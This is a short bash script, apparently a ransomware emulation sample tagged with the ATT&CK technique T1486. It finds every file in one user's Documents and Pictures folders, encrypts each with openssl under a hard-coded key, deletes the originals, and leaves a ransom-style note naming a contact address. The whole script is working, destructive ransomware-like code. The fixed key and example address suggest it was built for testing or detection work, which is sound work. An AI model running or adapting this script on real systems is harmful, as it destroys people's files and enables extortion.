#!/bin/bash
# SPDX-License-Identifier: GPL-3.0-or-later
# T1486 Data Encrypted for Impact: encrypts the user's documents and leaves a note.
find /home/jonas/Documents /home/jonas/Pictures -type f | while read -r f; do
    openssl enc -aes-256-cbc -pbkdf2 -k Not-A-Secret -in "$f" -out "$f.locked" && rm -f "$f"
done
echo "Your files are encrypted. Write to nobody@example.org" > /home/jonas/README-UNLOCK.txt
